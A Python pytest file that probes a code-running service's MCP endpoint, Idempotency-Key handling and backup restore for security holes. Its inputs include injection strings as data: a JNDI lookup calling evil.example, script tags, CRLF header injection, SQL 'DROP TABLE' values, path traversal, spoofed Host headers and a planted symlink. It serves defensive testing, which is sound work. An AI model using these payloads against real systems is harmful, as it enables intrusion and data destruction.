"""The MCP server, Idempotency-Key and backups read as an attacker would: the MCP key gate, sizes
and the host its links name; keys across users, odd characters and refused requests; the archive's
permissions and crafted archives. Each test states what holds and proves it."""
from __future__ import annotations

import gzip
import json
import os
import stat
import uuid
from pathlib import Path

import httpx
import pytest
import requests
import sqlalchemy as sa

from tests.integration.test_mcp import INITIALIZE, MCP_HEADERS, call, text
from tests.support.polling import wait_until

# ---------------------------------------------------------------------------------------------
# MCP


def mcp_post(front, key: str | None, url_suffix: str = "", **kwargs) -> requests.Response:
    headers = {**MCP_HEADERS, **({"Authorization": f"Bearer {key}"} if key else {}), **kwargs.pop("headers", {})}
    return requests.post(front.url + "/mcp" + url_suffix, headers=headers, timeout=30,
                         **({"json": INITIALIZE} | kwargs))


def test_a_key_in_the_query_string_is_refused_and_no_key_is_logged(front, user):
    for query in (f"?api_key={user['key']}", f"?key={user['key']}", f"?access_token={user['key']}",
                  f"?Authorization=Bearer%20{user['key']}"):
        response = mcp_post(front, None, query)
        assert response.status_code == 401 and response.json()["code"] == "unauthorized", query
    marker = uuid.uuid4().hex
    assert mcp_post(front, user["key"], f"?m={marker}").status_code == 200
    access_log = front.state_dir / "access.log"
    wait_until(lambda: access_log.exists() and marker in access_log.read_text(), timeout=15)
    logs = "".join(p.read_text(errors="replace") for p in front.state_dir.glob("*.log"))
    secret = user["key"].split("_")[-1][-20:]
    assert f"Bearer {user['key']}" not in logs
    assert sum(1 for line in logs.splitlines() if secret in line and "?" not in line) == 0


def test_the_gates_memory_is_of_the_whole_key(front, user):
    """A trusted key's neighbours (one character changed, cut short, extended) are each asked of
    the API and refused: the gate remembers a digest of the whole key."""
    key = user["key"]
    assert mcp_post(front, key).status_code == 200  # trusted from now on
    flipped = key[:-1] + ("A" if key[-1] != "A" else "B")
    for near in (flipped, key[:-1], key + "x", key[:11], key.upper() if key.upper() != key else key.lower()):
        response = mcp_post(front, near)
        assert response.status_code == 401 and response.json()["code"] == "unauthorized", near


def test_a_body_over_the_limit_is_413_at_nginx_and_at_the_mcp_socket(front, user):
    big = {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
           "params": {"name": "run_code", "arguments": {"language": "python", "code": "#" * (9 << 20)}}}
    response = mcp_post(front, user["key"], json=big)
    assert response.status_code == 413 and response.json()["code"] == "payload_too_large"
    # straight to the MCP process's socket, around nginx: its own cap answers
    transport = httpx.HTTPTransport(uds=str(front.runtime_dir / "mcp.sock"))
    with httpx.Client(transport=transport, base_url="http://localhost", timeout=60) as direct:
        answer = direct.post("/mcp", json=big, headers={**MCP_HEADERS, "Authorization": f"Bearer {user['key']}"})
    assert answer.status_code == 413, answer.text[:300]


def test_a_code_argument_over_the_apis_limit_and_an_unknown_language_are_tool_errors(front, worker, user):
    huge = call(front, user["key"], "run_code", {"language": "python", "code": "#" * (1024 * 1024 + 10)})
    assert huge.is_error and huge.structured_content["status"] in (413, 422), text(huge)
    for language in ("brainfuck-9000", "../python", "python/../java", ""):
        result = call(front, user["key"], "run_code", {"language": language, "code": "print(1)"})
        assert result.is_error and result.structured_content["status"] in (400, 404, 422), (language, text(result))
        assert "Traceback" not in text(result)


def test_get_execution_with_path_tricks_reaches_no_other_resource(front, worker, user, run, make_user):
    other = make_user()
    theirs = run("python", "print('theirs')", headers=other["headers"])
    for execution_id in (theirs["id"], f"../project/{theirs['id']}", "..%2f..%2fexecutions", "?limit=100"):
        result = call(front, user["key"], "get_execution", {"execution_id": execution_id})
        assert result.is_error, (execution_id, text(result))
        assert "theirs" not in json.dumps(result.structured_content or {}), execution_id


IMAGE_AND_FILE = ("import base64\nopen('/work/out/dot.png', 'wb').write(base64.b64decode("
                  "'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=='))\n"
                  "open('/work/out/notes.txt', 'w').write('hello')\n")


def tool_call_over_front(front, key: str, code: str, **headers: str) -> dict:
    body = {"jsonrpc": "2.0", "id": 3, "method": "tools/call",
            "params": {"name": "run_code", "arguments": {"language": "python", "code": code}}}
    response = mcp_post(front, key, json=body, headers=headers)
    assert response.status_code == 200, response.text
    (data,) = [line[5:] for line in response.text.splitlines() if line.startswith("data:")]
    return json.loads(data)["result"]


def test_links_name_the_callers_own_host_and_forwarded_headers_are_nginxs(front, worker, user):
    """Links are built from the Host the caller sent (so a caller can only mislead itself), with the
    scheme nginx saw, never a client's X-Forwarded-Proto or X-Forwarded-Host; the artifacts it inlines
    are fetched over the API's socket whatever the Host says (no request goes to evil.example)."""
    result = tool_call_over_front(front, user["key"], IMAGE_AND_FILE, **{
        "X-Forwarded-Proto": "https", "X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"})
    (link,) = [c for c in result["content"] if c["type"] == "resource_link"]
    assert link["uri"].startswith(front.url + "/codestudio/executions/"), link
    assert any(c["type"] == "image" for c in result["content"])
    spoofed = tool_call_over_front(front, user["key"], IMAGE_AND_FILE, Host="evil.example")
    assert any(c["type"] == "image" for c in spoofed["content"])  # fetched through the socket
    (link,) = [c for c in spoofed["content"] if c["type"] == "resource_link"]
    assert link["uri"].startswith("http://evil.example/codestudio/executions/") and user["key"] not in link["uri"]


def test_a_malformed_host_falls_back_to_localhost_and_a_client_cannot_claim_an_address():
    from mcp_server.access import RequestKey
    from mcp_server.settings import McpSettings

    access = RequestKey(McpSettings(api_socket="/nonexistent.sock"))
    for host in ("evil.example/path", "user@evil.example", "evil.example\r\nX: y", "a b", "", "évil.example"):
        caller = access.for_request("k", {"host": host})
        assert caller.public_url == "http://localhost" and caller.api_url == "http://localhost", host
    caller = access.for_request("k", {"host": "api.example:8443", "x-forwarded-proto": "https",
                                      "x-forwarded-host": "evil.example"})
    assert caller.public_url == "https://api.example:8443"
    assert set(caller.headers) == {"X-Forwarded-Proto"}  # no X-Forwarded-For or Host of the client's


# ---------------------------------------------------------------------------------------------
# Idempotency-Key


def keyed_run(client, user, key: str, code: str = "print(1)", **body):
    return client.post("/codestudio/run", json={"language": "python", "code": code, **body},
                       headers={**user["headers"], "Idempotency-Key": key})


@pytest.mark.parametrize("key", ['a"b\\c', "<script>alert(1)</script>", "%0d%0aSet-Cookie: x=1",
                                 "${jndi:ldap://evil.example/a}", "'; DROP TABLE idempotency_keys; --",
                                 "key with spaces ~!@#$%^&*()"])
def test_odd_printable_keys_work_and_are_never_echoed_in_headers(client, user, worker, key):
    first = keyed_run(client, user, key)
    again = keyed_run(client, user, key)
    assert first.status_code == again.status_code == 200, first.get_data(as_text=True)
    assert again.get_json()["id"] == first.get_json()["id"] and again.headers["Idempotent-Replayed"] == "true"
    for response in (first, again):
        assert all(key not in value for value in response.headers.values())


def test_keys_differ_by_case_and_a_key_of_another_user_is_no_oracle(client, user, make_user, worker):
    key = f"Key-{uuid.uuid4().hex}"
    upper, lower = keyed_run(client, user, key), keyed_run(client, user, key.lower())
    assert upper.get_json()["id"] != lower.get_json()["id"]
    other = make_user()
    # another body under the same key: for its owner a 422, for another user simply a new run
    assert keyed_run(client, user, key, code="print(2)").status_code == 422
    theirs = keyed_run(client, other, key, code="print(2)")
    assert theirs.status_code == 200 and "Idempotent-Replayed" not in theirs.headers
    assert theirs.get_json()["id"] != upper.get_json()["id"]
    same_body = keyed_run(client, other, key)  # the first user's body: a reuse of the other's own key
    assert same_body.status_code == 422 and upper.get_json()["id"] not in same_body.get_data(as_text=True)


def test_a_refused_request_does_not_spend_its_key(client, user, worker):
    key = uuid.uuid4().hex
    too_big = keyed_run(client, user, key, code="#" * (1024 * 1024 + 1))
    assert too_big.status_code in (413, 422) and too_big.get_json()["code"]
    bad = keyed_run(client, user, key, language_version="no-such-version", stdin=7)
    assert bad.status_code in (400, 422)
    good = keyed_run(client, user, key)
    assert good.status_code == 200 and "Idempotent-Replayed" not in good.headers


def test_a_body_over_the_request_limit_with_a_key_is_413_not_500(client, user):
    response = client.post("/codestudio/run", data=b'{"language":"python","code":"' + b"#" * (9 << 20) + b'"}',
                           headers={**user["headers"], "Idempotency-Key": "big",
                                    "Content-Type": "application/json"})
    assert response.status_code == 413 and response.get_json()["code"]


# ---------------------------------------------------------------------------------------------
# backups


def test_the_archive_is_readable_by_its_owner_only_and_a_planted_symlink_is_not_followed(app, tmp_path):
    from app.cli.backup import backup_command

    victim = tmp_path / "victim.txt"
    victim.write_text("not to be overwritten")
    path = tmp_path / "b.gz"
    (tmp_path / "b.gz.partial").symlink_to(victim)
    old_umask = os.umask(0)  # the most permissive umask: the mode is the command's own
    try:
        result = app.test_cli_runner().invoke(backup_command, [str(path)])
    finally:
        os.umask(old_umask)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert victim.read_text() == "not to be overwritten" and not (tmp_path / "b.gz.partial").exists()


def _archive(app, tmp_path) -> tuple[dict, list[dict]]:
    from app.cli.backup import backup_command

    path = tmp_path / "source.gz"
    assert app.test_cli_runner().invoke(backup_command, [str(path)]).exit_code == 0
    with gzip.open(path, "rt") as source:
        manifest, *rows = (json.loads(line) for line in source)
    return manifest, rows


def _write(path: Path, manifest: dict, rows: list) -> Path:
    with gzip.open(path, "wt") as out:
        out.write(json.dumps(manifest) + "\n")
        for row in rows:
            out.write((row if isinstance(row, str) else json.dumps(row)) + "\n")
    return path


def _crafted(manifest: dict, rows: list[dict]) -> dict[str, tuple[dict, list]]:
    first = next(r for r in rows if r["t"] == "users")
    execution = next(r for r in rows if r["t"] == "executions")

    def with_user(**changes):
        return [{"t": "users", "r": {**first["r"], **changes}}]

    def with_execution(**changes):
        return [{"t": "executions", "r": {**execution["r"], **changes}}]

    one, one_execution = {**manifest, "rows": {"users": 1}}, {**manifest, "rows": {"executions": 1}}
    return {
        "unknown table": (one, [{"t": "alembic_version", "r": {"version_num": "x"}}]),
        "unknown column": (one, [{"t": "users", "r": {**first["r"], "is_admin": True}}]),
        "an integer as text": (one, with_user(id="1; DROP TABLE users")),
        "an integer as a boolean": (one, with_user(id=True)),
        "a boolean as text": (one_execution, with_execution(stdout_truncated="yes")),
        "bad base64": (one_execution, with_execution(stdin="@@@ not base64")),
        "a timestamp that is not one": (one, with_user(created_at="yesterday")),
        "a timestamp as a number": (one, with_user(created_at=12)),
        "a missing required column": (one, [{"t": "users", "r": {"id": first["r"]["id"]}}]),
        "a line that is not JSON": (one, ["{not json"]),
        "a line that is not a row": (one, [[1, 2, 3]]),
        "a row that is not an object": (one, [{"t": "users", "r": "x"}]),
        "a manifest without rows": ({k: v for k, v in manifest.items() if k != "rows"}, []),
        "an unknown revision": ({**manifest, "revision": "0000deadbeef"}, []),
        "a duplicate key": ({**manifest, "rows": {"users": 2}}, [*with_user(), *with_user()]),
        "rows missing from the count": ({**manifest, "rows": {"users": 2}}, with_user()),
    }


def test_a_crafted_archive_fails_cleanly_and_writes_nothing(app, app_with, run, tmp_path, empty_database):
    from app.cli.backup import restore_command
    from app.services import backup as archive

    run(code="print(1)")
    manifest, rows = _archive(app, tmp_path)
    restored = app_with(SQLALCHEMY_DATABASE_URI=empty_database)
    for case, (crafted_manifest, crafted_rows) in _crafted(manifest, rows).items():
        path = _write(tmp_path / "crafted.gz", crafted_manifest, crafted_rows)
        result = restored.test_cli_runner().invoke(restore_command, [str(path)])
        assert result.exit_code == 1 and "Error: " in result.output, (case, result.output, result.exception)
        assert "Traceback" not in result.output, case
        assert isinstance(result.exception, SystemExit), (case, result.exception)
        with restored.app_context():
            from app.extensions import db

            counts = {t.name: db.session.execute(sa.select(sa.func.count()).select_from(t)).scalar_one()
                      for t in archive.tables(db.metadata)}
            db.session.remove()
        assert not any(counts.values()), (case, counts)
    # SQL in values is data: a user whose e-mail is an injection restores as written
    users = [r for r in rows if r["t"] == "users"][:1]
    evil = "x'); DELETE FROM users; --@example.test"
    users[0]["r"]["email"] = evil
    path = _write(tmp_path / "evil.gz", {**manifest, "rows": {"users": 1}}, users)
    result = restored.test_cli_runner().invoke(restore_command, [str(path)])
    assert result.exit_code == 0, result.output
    with restored.app_context():
        from app.extensions import db
        from app.models import User

        assert db.session.execute(sa.select(User.email)).scalars().all() == [evil]
        db.session.remove()
